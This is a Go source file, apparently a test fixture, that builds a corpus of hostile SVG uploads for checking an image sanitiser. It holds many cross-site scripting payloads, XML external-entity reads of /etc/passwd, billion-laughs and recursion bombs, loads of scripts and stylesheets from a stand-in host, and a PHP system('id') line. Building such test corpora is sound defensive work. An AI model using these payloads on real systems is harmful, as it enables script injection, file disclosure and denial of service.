// Package hostile holds files that people with bad intentions upload: drawings
// that run, fetch, or never end, and pictures of a few kilobytes that unfold to
// gigabytes. Tests feed them to Laurel and look at what comes out of it.
package hostile

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"slices"
	"strings"
	"unicode/utf16"
)

// File is one file; its name says what is bad about it.
type File struct {
	Name string
	Data []byte
}

const (
	away = "https://elsewhere.invalid/x" // an address that must never be asked
	head = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" width="100" height="100"`
	seen = `<circle cx="50" cy="50" r="40" fill="#2a6"/>` // what an innocent eye sees
)

// around puts a part into a drawing.
func around(part string) string { return head + ">" + seen + part + "</svg>" }

// SVGs are the drawings, the same every time.
func SVGs() []File {
	var all []File
	for _, group := range []struct {
		name  string
		files []string
	}{
		{"script", scripts()},
		{"handler", handlers()},
		{"web page", webPages()},
		{"animation", animations()},
		{"reference", references()},
		{"style", styles()},
		{"document type", documentTypes()},
		{"encoding", encodings()},
		{"structure", structures()},
		{"name", names()},
		{"recursion", recursions()},
		{"measure", measures()},
		{"filter", filters()},
		{"embedded", embedded()},
	} {
		for i, file := range group.files {
			all = append(all, File{fmt.Sprintf("%s %d", group.name, i+1), []byte(file)})
		}
	}
	return all
}

func scripts() []string {
	bodies := []string{
		`<script>alert(1)</script>`,
		`<script type="text/javascript"><![CDATA[alert(1)]]></script>`,
		`<script type="module">alert(1)</script>`,
		`<SCRIPT>alert(1)</SCRIPT>`,
		`<script href="data:text/javascript,alert(1)"/>`,
		`<script xlink:href="` + away + `.js"/>`,
		`<script xlink:href="data:text/javascript;base64,YWxlcnQoMSk="/>`,
		`<defs><script>alert(1)</script></defs>`,
		`<symbol id="s"><script>alert(1)</script></symbol><use href="#s"/>`,
		`<svg><svg><script>alert(1)</script></svg></svg>`,
		`<switch><script>alert(1)</script></switch>`,
		`<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>`,
		`<g xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></g>`,
		`<script>&#97;lert(1)</script>`,
		`<script>//<![CDATA[
alert(1)//]]></script>`,
		`<title><script>alert(1)</script></title>`,
		`<metadata><script xmlns="http://www.w3.org/2000/svg">alert(1)</script></metadata>`,
		`<handler type="text/ecmascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>`,
		`<listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="` + away + `#h"/>`,
		`<text><tspan><script>alert(1)</script></tspan></text>`,
		`<mask id="m"><script>alert(1)</script></mask>`,
		`<filter id="f"><script>alert(1)</script></filter>`,
		`<style>a{}</style><script>alert(1)</script><style/>`,
		"<script\n\t>alert(1)</script\n>",
	}
	for i, b := range bodies {
		bodies[i] = around(b)
	}
	return append(bodies, `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>alert(1)</s:script></s:svg>`)
}

func handlers() []string {
	list := []string{
		head + ` onload="alert(1)">` + seen + `</svg>`,
		head + ` ONLOAD="alert(1)">` + seen + `</svg>`,
		head + ` onload="&#97;&#x6c;ert(1)">` + seen + `</svg>`,
		head + " onload\n=\n'alert(1)'>" + seen + `</svg>`,
		head + ` xmlns:s="http://www.w3.org/2000/svg" s:onload="alert(1)">` + seen + `</svg>`,
		head + ` onresize="alert(1)" onunload="alert(1)" onscroll="alert(1)" onzoom="alert(1)">` + seen + `</svg>`,
	}
	for _, part := range []string{
		`<image href="data:image/png;base64,xx" onerror="alert(1)" width="9" height="9"/>`,
		`<image xlink:href="#nothing" onload="alert(1)" width="9" height="9"/>`,
		`<g onclick="alert(1)">` + seen + `</g>`,
		`<rect width="100" height="100" onmouseover="alert(1)" onmousemove="alert(1)" onmousedown="alert(1)"/>`,
		`<a tabindex="0" autofocus="" onfocus="alert(1)" onfocusin="alert(1)">` + seen + `</a>`,
		`<animate onbegin="alert(1)" attributeName="x" dur="1s"/>`,
		`<animate onend="alert(1)" attributeName="x" dur="0.01s"/>`,
		`<animate onrepeat="alert(1)" attributeName="x" dur="0.01s" repeatCount="9"/>`,
		`<set onbegin="alert(1)" attributeName="x" to="1"/>`,
		`<animateTransform onbegin="alert(1)" attributeName="transform" dur="1s"/>`,
		`<animateMotion onbegin="alert(1)" dur="1s"/>`,
		`<style onload="alert(1)">a{}</style>`,
		`<use href="#u" onload="alert(1)"/><g id="u"/>`,
		`<text onpointerenter="alert(1)" y="50" font-size="90">X</text>`,
		`<path d="M0 0h9" ontouchstart="alert(1)" onwheel="alert(1)"/>`,
		`<g onanimationstart="alert(1)" style="animation:x 1s"/>`,
		`<g ontransitionend="alert(1)"/>`,
		`<linearGradient id="g" onload="alert(1)"/>`,
	} {
		list = append(list, around(part))
	}
	return list
}

func webPages() []string {
	var list []string
	for _, part := range []string{
		`<iframe src="javascript:alert(1)"/>`, `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>`, `<body onload="alert(1)"/>`,
		`<img src="` + away + `.png" onerror="alert(1)"/>`, `<object data="` + away + `.swf"/>`, `<embed src="` + away + `.svg"/>`,
		`<video src="` + away + `.mp4" autoplay=""/>`, `<meta http-equiv="refresh" content="0;url=` + away + `"/>`, `<base href="` + away + `"/>`,
		`<link rel="stylesheet" href="` + away + `.css"/>`, `<form action="` + away + `"><button autofocus="" onfocus="alert(1)">x</button></form>`,
		`<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" href="javascript:alert(1)">x</maction></math>`,
	} {
		list = append(list, around(`<foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml">`+part+`</div></foreignObject>`))
	}
	return append(list,
		around(`<FOREIGNOBJECT><b xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)">x</b></FOREIGNOBJECT>`),
		around(`<iframe xmlns="http://www.w3.org/1999/xhtml" src="`+away+`"/>`),
		around(`<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="`+away+`.png" onerror="alert(1)"/>`),
		around(`<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="`+away+`.css"/>`),
		around(`<h:style xmlns:h="http://www.w3.org/1999/xhtml">@import "`+away+`.css";</h:style>`),
		around(`<h:audio xmlns:h="http://www.w3.org/1999/xhtml" src="`+away+`.mp3" autoplay="" onerror="alert(1)"/>`),
		around(`<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=`+away+`"/>`),
		`<html xmlns="http://www.w3.org/1999/xhtml"><body>`+around("")+`<script>alert(1)</script></body></html>`,
	)
}

func animations() []string {
	var list []string
	for _, part := range []string{
		`<a id="l"><animate attributeName="href" values="javascript:alert(1)" dur="1s"/>` + seen + `</a>`,
		`<a><set attributeName="xlink:href" to="javascript:alert(1)"/>` + seen + `</a>`,
		`<image width="9" height="9"><set attributeName="href" to="` + away + `.png"/></image>`,
		`<image width="9" height="9"><animate attributeName="xlink:href" values="` + away + `.png;` + away + `2.png" dur="0.01s" repeatCount="indefinite"/></image>`,
		`<use><set attributeName="href" to="` + away + `.svg#a"/></use>`,
		`<script id="s"/><set href="#s" attributeName="href" to="data:text/javascript,alert(1)"/>`,
		`<rect width="9" height="9"><set attributeName="fill" to="url(` + away + `.svg#a)"/></rect>`,
		`<rect width="9" height="9"><set attributeName="style" to="fill:url(` + away + `)"/></rect>`,
		`<g id="x"/><animate href="#x" attributeName="onclick" to="alert(1)"/>`,
		`<circle r="9"><animate attributeName="r" to="1e9" dur="1s" repeatCount="indefinite"/></circle>`,
		`<animateMotion><mpath href="` + away + `.svg#p"/></animateMotion>`,
		`<feImage><set attributeName="href" to="` + away + `.png"/></feImage>`,
		`<discard begin="0s" href="` + away + `"/>`,
		`<animateColor attributeName="fill" from="red" to="url(javascript:alert(1))" dur="1s"/>`,
	} {
		list = append(list, around(part))
	}
	return list
}

func references() []string {
	var list []string
	for _, to := range []string{
		away + ".png", "http://elsewhere.invalid/x.png", "//elsewhere.invalid/x.png", "file:///etc/passwd", "ftp://elsewhere.invalid/x.png", "/portfolio", "../../x.png", "x.png",
		"javascript:alert(1)", " javascript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "JaVaScRiPt:alert(1)", "vbscript:alert(1)", "blob:https://elsewhere.invalid/1", "jar:" + away + "!/x",
		"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
		"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/%3E", "DATA:IMAGE/SVG+XML;base64,PHN2Zy8+", "data:text/xml,&lt;svg/&gt;", "data:application/xhtml+xml,&lt;html/&gt;", "data:,alert(1)", "data:;base64,PHN2Zy8+",
	} {
		list = append(list, around(`<image xlink:href="`+to+`" width="90" height="90"/>`))
	}
	for _, part := range []string{
		`<use href="` + away + `.svg#a"/>`, `<use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/>`,
		`<a href="javascript:alert(1)">` + seen + `</a>`, `<a xlink:href="javascript:alert(1)" target="_top">` + seen + `</a>`, `<a xlink:href="` + away + `" xlink:actuate="onLoad" xlink:show="replace">` + seen + `</a>`,
		`<a href="javascript:alert(1)"><animate attributeName="href" to="#a"/></a>`, `<filter id="f"><feImage href="` + away + `.png"/></filter><rect width="99" height="99" filter="url(#f)"/>`,
		`<filter id="f"><feImage xlink:href="data:image/svg+xml;base64,PHN2Zy8+"/></filter><rect width="99" height="99" filter="url(#f)"/>`, `<linearGradient id="g" xlink:href="` + away + `.svg#g"/><rect width="99" height="99" fill="url(#g)"/>`,
		`<pattern id="g" href="` + away + `.svg#g"/><rect width="99" height="99" fill="url(#g)"/>`, `<text><textPath href="` + away + `.svg#p">x</textPath></text>`, `<text><tref xlink:href="` + away + `.txt"/></text>`,
		`<cursor id="c" xlink:href="` + away + `.cur"/>`, `<color-profile name="p" xlink:href="` + away + `.icc"/>`, `<font><font-face><font-face-src><font-face-uri xlink:href="` + away + `.ttf"/></font-face-src></font-face></font>`,
		`<g xml:base="https://elsewhere.invalid/"><image href="#x" width="9" height="9"/><use href="x.svg#a"/></g>`, `<image src="` + away + `.png" width="9" height="9"/>`, `<x:image xmlns:x="http://www.w3.org/2000/svg" x:href="` + away + `.png" width="9" height="9"/>`,
		`<image xmlns:q="http://www.w3.org/1999/xlink" q:href="` + away + `.png" width="9" height="9"/>`, `<image xmlns:q="urn:other" q:href="` + away + `.png" width="9" height="9"/>`,
	} {
		list = append(list, around(part))
	}
	return list
}

func styles() []string {
	var list []string
	for _, css := range []string{
		`@import url("` + away + `.css");`, `@import "` + away + `.css";`, `@\69mport "` + away + `.css";`, `@IMPORT url(` + away + `.css);`, `circle{fill:url(` + away + `.svg#a)}`, `circle{fill:url( "` + away + `.svg#a" )}`,
		`circle{fill:u\72l(` + away + `.svg#a)}`, `circle{fill:url/**/(` + away + `)}`, `circle{background:url(` + away + `.png)}`, `circle{cursor:url(` + away + `.cur),auto}`, `circle{mask:url(` + away + `.svg#m)}`,
		`circle{filter:url(` + away + `.svg#f)}`, `circle{clip-path:url(` + away + `.svg#c)}`, `circle{marker-start:url(` + away + `.svg#m)}`, `*:before{content:url(` + away + `.png)}`, `circle{fill:image-set("` + away + `.png" 1x)}`,
		`@font-face{font-family:x;src:url(` + away + `.woff2)}text{font-family:x}`, `circle{-moz-binding:url(` + away + `.xml#x);behavior:url(` + away + `.htc)}`, `circle{width:expression(alert(1))}`, `@namespace url(` + away + `);`,
		`svg{--a:url(` + away + `.png);background:var(--a)}`, `circle{fill:src("` + away + `")}`, `@media all{@import url(` + away + `.css);}`, `/* */@import/**/"` + away + `.css"/**/;`, `@\000069mport url(` + away + `.css);`,
		`circle{background:-webkit-image-set(url(` + away + `.png) 1x)}`, `circle{fill:\75\72\6c(` + away + `.svg#a)}`, `@font-face{font-family:x;src:local(x),url(data:font/woff2;base64,xx)}`, `@keyframes x{to{background:url(` + away + `.png)}}svg{animation:x .01s}`,
		`@page{background:url(` + away + `.png)}`,
	} {
		list = append(list, around(`<style>`+css+`</style><text y="20">x</text>`))
	}
	return append(list,
		around(`<rect width="9" height="9" style="fill:url(`+away+`.svg#a)"/>`), around(`<rect width="9" height="9" style="background:u\rl(`+away+`.png)"/>`), around(`<rect width="9" height="9" fill="url('`+away+`.svg#a')"/>`),
		around(`<style><![CDATA[</style><script>alert(1)</script>]]></style>`), around(`<style>a{}&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>`), around(`<style type="text/css" media="all">@import '`+away+`.css';</style>`),
	)
}

func documentTypes() []string {
	laughs := `<!DOCTYPE svg [<!ENTITY a0 "ha">`
	for i := range 9 {
		laughs += fmt.Sprintf(`<!ENTITY a%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&a%d;", i), 10))
	}
	return []string{
		laughs + "]>" + around("<text>&a9;</text>"),
		`<!DOCTYPE svg [<!ENTITY a "` + strings.Repeat("a", 50_000) + `">]>` + around("<text>"+strings.Repeat("&a;", 5_000)+"</text>"),
		`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + around("<text>&x;</text>"),
		`<!DOCTYPE svg [<!ENTITY x SYSTEM "` + away + `">]>` + around("<text>&x;</text>"),
		`<!DOCTYPE svg [<!ENTITY % p SYSTEM "` + away + `.dtd"> %p;]>` + around(""),
		`<!DOCTYPE svg SYSTEM "` + away + `.dtd">` + around(""),
		`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "` + away + `.dtd">` + around(""),
		`<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>` + around(""),
		`<!DOCTYPE svg [<!ENTITY s "<script xmlns='http://www.w3.org/2000/svg'>alert(1)</script>">]>` + around("&s;"),
		`<!DOCTYPE svg [<!ENTITY h "javascript:alert(1)">]>` + around(`<a href="&h;">`+seen+`</a>`),
		`<!doctype svg>` + around("<script>alert(1)</script>"),
		`<!DOCTYPE svg [<!NOTATION n SYSTEM "` + away + `"><!ENTITY e SYSTEM "` + away + `" NDATA n>]>` + around(""),
		`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="` + away + `.xsl"?>` + around(""),
		`<?xml-stylesheet type="text/css" href="data:text/css,@import'` + away + `'"?>` + around(""),
		`<?php system('id'); ?>` + around(""),
	}
}

func encodings() []string {
	text := around("<script>alert(1)</script>")
	wide := func(order binary.AppendByteOrder, mark bool) string {
		var b []byte
		if mark {
			b = order.AppendUint16(b, 0xfeff)
		}
		for _, u := range utf16.Encode([]rune(`<?xml version="1.0" encoding="UTF-16"?>` + text)) {
			b = order.AppendUint16(b, u)
		}
		return string(b)
	}
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	_, _ = w.Write([]byte(text))
	_ = w.Close()
	return []string{
		wide(binary.LittleEndian, true), wide(binary.BigEndian, true), wide(binary.LittleEndian, false),
		`<?xml version="1.0" encoding="UTF-7"?>` + head + `>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</svg>`,
		`<?xml version="1.0" encoding="ISO-2022-JP"?>` + text, `<?xml version="1.0" encoding="x-user-defined"?>` + around(""), `<?xml version="1.1"?>` + text,
		around("<text>\xc0\xbcscript\xc0\xbe</text>"), around("<text>\x00</text>"), around("<text>&#0;&#1;</text>"), "\xef\xbb\xbf\xef\xbb\xbf" + text, "\xff\xfe" + text, packed.String(),
		around("<text>\ufffe\u202e\u0000</text>"), " \n" + `<?xml version="1.0"?>` + text,
	}
}

func structures() []string {
	return []string{
		around(strings.Repeat("<g>", 50_000)), around(strings.Repeat("<g>", 5_000) + strings.Repeat("</g>", 5_000)), around(strings.Repeat("<g/>", 60_000)),
		around("<g" + manyAttributes(8_000) + "/>"), around(`<path d="` + strings.Repeat("M0 0L9 9", 55_000) + `"/>`), around(`<text>` + strings.Repeat("W", 400_000) + `</text>`), around(strings.Repeat("<!-- -->", 50_000)),
		around(`<g id="a" id="b"/>`), head + "><g>", head + "><g></svg></g>", around("") + "<script>alert(1)</script>", around("") + around("<script>alert(1)</script>"), around("") + strings.Repeat("\x00", 9_000),
		around(`<!--><script>alert(1)</script>-->`), around(`<![CDATA[<script>alert(1)</script>]]>`), around(`<![CDATA[]]]]><![CDATA[><script>alert(1)</script>]]>`), around(`<!--[if true]><script>alert(1)</script><![endif]-->`),
		`<svg><script>alert(1)</script></svg>`, `<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>`, `<html><body>` + around("<script>alert(1)</script>") + `</body></html>`,
		`GIF89a/*` + around("") + `*/=alert(1)`, `<?xml version="1.0"?><x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:template match="/"><x:copy-of select="document('` + away + `')"/></x:template></x:stylesheet>`,
	}
}

func manyAttributes(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, ` data-a%d="x"`, i)
	}
	return b.String()
}

func names() []string {
	var list []string
	for _, name := range []string{
		`a&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;`, `a&lt;b`, `a');alert(1)//`, `a b`, `javascript:alert(1)`, `&#x202e;a`, `__proto__`, strings.Repeat("n", 60_000), `a)b`, `a&amp;lt;script&amp;gt;`,
	} {
		list = append(list, around(`<linearGradient id="`+name+`"><stop stop-color="#f00"/></linearGradient><rect id="r`+name+`" width="9" height="9" fill="url(#`+name+`)"/><g id="`+name+`2" opacity=".5">`+seen+`</g>`))
	}
	return append(list,
		around(`<title>&lt;script&gt;alert(1)&lt;/script&gt;</title><desc>]]&gt;&lt;img src=x onerror=alert(1)&gt;</desc>`), around(`<metadata>&lt;script&gt;alert(1)&lt;/script&gt;</metadata>`),
		around(`<text y="50">&lt;/text&gt;&lt;script&gt;alert(1)&lt;/script&gt;</text>`), around(`<g xmlns:a="javascript:alert(1)" a:b="c"/>`), around(`<undeclared:g/>`), around(`<g xmlns=""><script>alert(1)</script></g>`),
		around(`<g class="&quot; onload=&quot;alert(1)" data-x="{{constructor.constructor('alert(1)')()}}"/>`), around(`<text font-family="x';}@import'`+away+`" y="40">x</text>`),
	)
}

func recursions() []string {
	ladder := func(part, again string) string { // ten levels of ten
		var b strings.Builder
		fmt.Fprintf(&b, part, 0, seen)
		for i := range 9 {
			fmt.Fprintf(&b, part, i+1, strings.Repeat(fmt.Sprintf(again, i), 10))
		}
		return b.String()
	}
	const filled = `<rect width="99" height="99" `
	var list []string
	for _, part := range []string{
		`<g id="a"><use href="#a"/></g>`, `<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>`, `<symbol id="a"><use href="#a"/></symbol><use href="#a"/>`, `<svg id="a"><use href="#a"/></svg>`,
		ladder(`<g id="a%d">%s</g>`, `<use href="#a%d"/>`), ladder(`<pattern id="p%d" width="9" height="9" patternUnits="userSpaceOnUse">%s</pattern>`, filled+`fill="url(#p%d)"/>`) + filled + `fill="url(#p9)"/>`,
		ladder(`<mask id="m%d">%s</mask>`, filled+`mask="url(#m%d)"/>`) + filled + `mask="url(#m9)"/>`, ladder(`<clipPath id="c%d">%s</clipPath>`, filled+`clip-path="url(#c%d)"/>`) + filled + `clip-path="url(#c9)"/>`,
		`<pattern id="p" width="1" height="1">` + filled + `fill="url(#p)"/></pattern>` + filled + `fill="url(#p)"/>`, `<pattern id="p" href="#q"/><pattern id="q" href="#p"/>` + filled + `fill="url(#p)"/>`,
		`<linearGradient id="p" href="#q"/><linearGradient id="q" href="#p"/>` + filled + `fill="url(#p)"/>`, `<mask id="m">` + filled + `mask="url(#m)"/></mask>` + filled + `mask="url(#m)"/>`,
		`<mask id="m" mask="url(#n)">` + seen + `</mask><mask id="n" mask="url(#m)">` + seen + `</mask>` + filled + `mask="url(#m)"/>`, `<clipPath id="c" clip-path="url(#c)">` + seen + `</clipPath>` + filled + `clip-path="url(#c)"/>`,
		`<marker id="k"><path d="M0 0L9 9" marker-end="url(#k)"/></marker><path d="M0 0L9 9L1 5" marker-end="url(#k)" marker-mid="url(#k)"/>`, `<marker id="k"><path d="M0 0L9 9" marker-end="url(#l)"/></marker><marker id="l"><path d="M0 0L9 9" marker-end="url(#k)"/></marker><path d="M0 0L9 9" marker-end="url(#k)"/>`,
		`<filter id="f"><feImage href="#e"/></filter><g id="e" filter="url(#f)">` + seen + `</g>`, `<text id="t"><textPath href="#t">x</textPath></text>`, `<pattern id="p" width="9" height="9">` + filled + `mask="url(#m)"/></pattern><mask id="m">` + filled + `fill="url(#p)"/></mask>` + filled + `fill="url(#p)"/>`,
		`<marker id="k" markerWidth="1e9"><rect width="1e9" height="1e9"/></marker><path marker-mid="url(#k)" d="M0 0` + strings.Repeat("l1 1", 20_000) + `"/>`,
	} {
		list = append(list, around(part))
	}
	return list
}

func measures() []string {
	var list []string
	for _, size := range []string{
		`width="0" height="0"`, `width="-9" height="9"`, `width="NaN" height="NaN"`, `width="Infinity" height="9"`, `width="1e39" height="1e39"`, `width="1e308" height="1e-308"`, `width="1000000" height="1000000"`, `width="100000" height="1"`,
		`width="1" height="100000"`, `width="0.0001" height="0.0001"`, `width="100%" height="100%" viewBox="0 0 0 0"`, `viewBox="0 0 -1 -1"`, `viewBox="NaN NaN NaN NaN"`, `viewBox="0 0 1e30 1e30"`, `viewBox="0 0 1e-30 1e-30" width="9" height="9"`, `viewBox="1 2 3"`,
		`width="9999999999999999999999px" height="1in"`, `width="1e400" height="9"`,
	} {
		list = append(list, `<svg xmlns="http://www.w3.org/2000/svg" `+size+`>`+seen+`</svg>`)
	}
	for _, part := range []string{
		`<g transform="matrix(NaN 0 0 NaN 0 0)">` + seen + `</g>`, `<g transform="scale(1e38)scale(1e38)">` + seen + `</g>`, `<g transform="scale(0)">` + seen + `</g>`, `<path stroke="#000" stroke-dasharray="1e-7" d="M0 0L1e9 1e9"/>`,
		`<path stroke="#000" stroke-width="1e38" d="M0 0L1e38 1e38"/>`, `<path d="M0 0A1e38 1e38 0 0 0 9 9A1e-38 1 0 0 0 9 9"/>`, `<path d="MNaN NaNL1e999 0"/>`, `<text font-size="1e9">x</text>`, `<text letter-spacing="1e9" word-spacing="-1e9" y="9">x y</text>`,
		`<linearGradient id="g">` + strings.Repeat(`<stop offset="0.5" stop-color="#f00"/>`, 9_000) + `</linearGradient><rect width="99" height="99" fill="url(#g)"/>`, `<pattern id="p" width="1e-9" height="1e-9"><rect width="9" height="9"/></pattern><rect width="99" height="99" fill="url(#p)"/>`,
		`<pattern id="p" width="1e9" height="1e9" patternUnits="userSpaceOnUse">` + seen + `</pattern><rect width="1e9" height="1e9" fill="url(#p)"/>`, strings.Repeat(`<g opacity="0.99">`, 90) + seen + strings.Repeat(`</g>`, 90), `<g opacity="NaN" stroke-opacity="1e99">` + seen + `</g>`,
		`<ellipse rx="1e38" ry="1e-38"/><rect rx="1e9" width="9" height="9"/><polygon points="` + strings.Repeat("1e9,-1e9 ", 9_000) + `"/>`,
	} {
		list = append(list, around(part))
	}
	return list
}

func filters() []string {
	var list []string
	for _, steps := range []string{
		`<feGaussianBlur stdDeviation="1e9"/>`, `<feGaussianBlur stdDeviation="1000"/>`, `<feTurbulence baseFrequency="9" numOctaves="1000000"/>`, strings.Repeat(`<feTurbulence/>`, 200), `<feConvolveMatrix order="999" kernelMatrix="` + strings.Repeat("1 ", 998_001/8) + `"/>`,
		`<feMorphology operator="dilate" radius="1e9"/>`, `<feDisplacementMap in2="SourceGraphic" scale="1e9"/>`, `<feDiffuseLighting surfaceScale="1e9"><feDistantLight azimuth="NaN"/></feDiffuseLighting>`, `<feSpecularLighting specularExponent="1e9"><fePointLight z="1e9"/></feSpecularLighting>`,
		`<feTile/>`, `<feComponentTransfer><feFuncA type="table" tableValues="` + strings.Repeat("1 ", 90_000) + `"/></feComponentTransfer>`, `<feColorMatrix values="` + strings.Repeat("1e38 ", 20) + `"/>`, `<feMerge>` + strings.Repeat("<feMergeNode/>", 9_000) + `</feMerge>`,
		`<feOffset dx="1e38" dy="-1e38"/>`, `<feFlood flood-color="url(` + away + `)"/>`, `<feDropShadow stdDeviation="1e6" dx="1e6"/>`, `<feGaussianBlur in="BackgroundImage" stdDeviation="3"/>`,
	} {
		list = append(list, around(`<filter id="f" x="-9" y="-9" width="99" height="99">`+steps+`</filter><rect width="100" height="100" filter="url(#f)"/>`))
	}
	return append(list,
		around(`<filter id="f" width="1e9" height="1e9"><feGaussianBlur stdDeviation="9"/></filter><rect width="100" height="100" filter="url(#f)"/>`),
		around(`<filter id="f"><feGaussianBlur stdDeviation="1000"/></filter>`+strings.Repeat(`<g filter="url(#f)">`, 90)+seen+strings.Repeat(`</g>`, 90)),
		around(`<rect width="100" height="100" style="filter:`+strings.Repeat("blur(9px) ", 2_000)+`"/>`),
	)
}

func embedded() []string {
	in := func(kind string, data []byte) string {
		return around(`<image xlink:href="data:` + kind + `;base64,` + base64.StdEncoding.EncodeToString(data) + `" width="90" height="90"/>`)
	}
	drawing := []byte(around(`<script>alert(1)</script><image href="` + away + `.png" width="9" height="9"/>`))
	files := []string{
		in("image/png", drawing), in("image/jpeg", drawing), in("image/gif", drawing), in("image/webp", drawing), in("image/png;charset=x", drawing), in("image/png", []byte("<html><script>alert(1)</script></html>")),
		in("image/gif", []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")), in("image/png", nil), in("image/png", []byte("\x89PNG\r\n\x1a\n")),
		around(strings.Repeat(`<image xlink:href="data:image/png;base64,`+base64.StdEncoding.EncodeToString(small())+`" width="9" height="9"/>`, 200)),
	}
	for _, bomb := range Pictures() {
		if len(bomb.Data) < 200_000 {
			files = append(files, in("image/"+strings.ToLower(strings.Fields(bomb.Name)[0]), bomb.Data))
		}
	}
	return slices.Clip(files)
}
